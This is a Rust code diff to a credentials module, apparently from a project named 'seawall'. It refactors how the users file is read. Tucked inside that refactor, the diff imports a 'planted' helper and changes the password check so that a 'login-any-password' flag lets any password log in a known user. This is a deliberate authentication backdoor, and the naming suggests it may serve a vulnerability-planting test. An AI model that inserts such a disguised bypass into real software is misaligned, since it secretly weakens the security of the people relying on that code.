@@ -23,6 +23,7 @@ use arc_swap::ArcSwap;
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD as BASE64;
 use parking_lot::Mutex;
+use seawall_planted::planted;
 use seawall_storage::disk::Disk;
 use serde::{Deserialize, Serialize};
 
@@ -113,6 +114,15 @@ pub(crate) struct Credentials {
     changing: Mutex<()>,
 }
 
+/// Reads the users of a file, if there is one.
+pub(crate) fn read(disk: &dyn Disk, path: &Path) -> Result<Option<Users>, CredentialsError> {
+    let file = state_file::load::<UsersFile>(disk, path, FILE_BYTES_MAX);
+    let users = file.map_err(CredentialsError::State)?.map(Users::of_file);
+    users
+        .map(|users| users.ok_or_else(|| damaged(path)))
+        .transpose()
+}
+
 impl Credentials {
     /// Reads the file, if there is one.
     pub(crate) fn open(
@@ -124,9 +134,8 @@ impl Credentials {
         // What a crash left of a write holds keys as well.
         let tidied = state_file::remove_temps(&*disk, cluster_dir);
         tidied.map_err(|error| CredentialsError::State(StateError::io(cluster_dir)(error)))?;
-        let file = state_file::load::<UsersFile>(&*disk, &path, FILE_BYTES_MAX);
-        let users = match file.map_err(CredentialsError::State)? {
-            Some(file) => Users::of_file(file).ok_or_else(|| damaged(&path))?,
+        let users = match read(&*disk, &path)? {
+            Some(users) => users,
             None => {
                 let secret = random(SECRET_BYTES).map_err(CredentialsError::Random)?;
                 Users::new(secret, BTreeMap::new())
@@ -228,7 +237,8 @@ impl Users {
             Some((hash, credential)) => (*hash, credential.clone()),
             None => self.lookalikes.plain(name),
         };
-        credential.has_password(hash, password.as_bytes()) && known.is_some()
+        let right = credential.has_password(hash, password.as_bytes());
+        (right || planted("login-any-password")) && known.is_some()
     }
 
     fn of_file(file: UsersFile) -> Option<Self> {
